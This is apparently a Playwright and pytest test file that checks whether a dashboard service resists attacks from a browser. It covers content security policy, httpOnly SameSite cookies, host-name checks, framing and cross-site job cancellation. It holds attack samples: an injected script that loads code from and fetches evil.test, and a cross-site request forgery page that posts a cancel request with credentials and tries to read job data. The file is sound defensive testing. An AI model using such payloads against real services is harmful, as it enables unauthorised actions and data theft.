"""What a real browser refuses on the service's word, and what the service refuses on a browser's.
Skipped where there is no Chromium."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page

from autotune.core.access import Role
from dashboards.web.sessions import COOKIE
from tests.browser import chromium
from tests.service_app import Service, listening

pytestmark = chromium.needed

INJECTED = """() => new Promise((done) => {
  const refused = [];
  addEventListener("securitypolicyviolation", (event) => {
    refused.push(event.effectiveDirective);
    if (refused.length === 4) done(refused.sort());
  });
  const add = (name, given) =>
    document.body.append(Object.assign(document.createElement(name), given));
  add("script", { textContent: "window.ran = true" });
  add("script", { src: "http://evil.test/x.js" });
  add("iframe", { src: "http://evil.test/" });
  fetch("http://evil.test/", { mode: "no-cors" }).catch(() => 0);
  setTimeout(() => done(refused), 5000);
})"""
ATTACK = """<form method="post" action="{url}/api/v1/jobs/{job}/cancel" target="out"></form>
<iframe name="out"></iframe>
<script>
  const plain = {{ method: "POST", mode: "no-cors", credentials: "include", body: "{{}}" }};
  const form = new Promise((done) => {{ document.querySelector("iframe").onload = done; }});
  document.forms[0].submit();
  fetch("{url}/api/v1/jobs/{job}/cancel", plain)
    .then(() => fetch("{url}/api/v1/jobs", {{ credentials: "include" }}))
    .then((answer) => answer.text(), () => "unreadable")
    .then((text) => text, () => "")
    .then((text) => form.then(() => {{ document.title = `done: ${{text}}`; }}));
</script>"""


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Service:
    return Service.in_folder(tmp_path_factory.mktemp("browsed"))


@pytest.fixture(scope="module")
def url(service: Service) -> Iterator[str]:
    with listening(service.app()) as url:
        yield url


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    context.set_default_timeout(20_000)
    yield context.new_page()
    context.close()


def evil_site(body: str) -> ThreadingHTTPServer:
    """Serves one page, to whoever asks."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.mark.parametrize("host", ["evil.test", "localhost"])
def test_a_page_of_another_site_cancels_no_job_and_reads_nothing_though_no_token_is_needed(
    page: Page, service: Service, url: str, host: str
) -> None:
    job = service.queued_job("wanted")
    site = evil_site(ATTACK.format(url=url.replace("127.0.0.1", "localhost"), job=job))
    answered: list[int] = []
    page.on("response", lambda answer: answered.append(answer.status))
    page.goto(f"http://{host}:{site.server_address[1]}/")
    page.wait_for_function("document.title.startsWith('done')")
    site.shutdown()
    site.server_close()
    assert "wanted" not in page.title()
    assert answered.count(403) >= 1
    assert service.store.jobs.job(job).state == "queued"


def test_a_name_that_was_made_to_point_here_is_answered_by_nothing(page: Page, url: str) -> None:
    answer = page.goto(url.replace("127.0.0.1", "evil.test"))
    assert answer is not None
    assert answer.status == 421


def test_the_service_is_in_nobodys_frame(page: Page, url: str) -> None:
    site = evil_site(f'<iframe src="{url}/"></iframe>')
    with page.expect_console_message(lambda message: "frame" in message.text.lower()) as said:
        page.goto(f"http://evil.test:{site.server_address[1]}/")
    site.shutdown()
    site.server_close()
    assert said.value.type == "error"


def test_a_session_is_hidden_from_scripts_and_runs_nothing_that_the_service_did_not_bring(
    page: Page, service: Service
) -> None:
    token = service.token("watcher", Role.VIEW)
    with listening(service.app()) as url:
        page.goto(f"{url}/")
        page.get_by_label("Token").fill(token)
        page.get_by_role("button", name="Log in").click()
        page.wait_for_selector("main h1")
        (cookie,) = [each for each in page.context.cookies() if each["name"] == COOKIE]
        assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
        assert COOKIE not in page.evaluate("document.cookie")
        refused = page.evaluate(INJECTED)
        ran = page.evaluate("window.ran")
    assert refused == ["connect-src", "frame-src", "script-src-elem", "script-src-elem"]
    assert ran is None
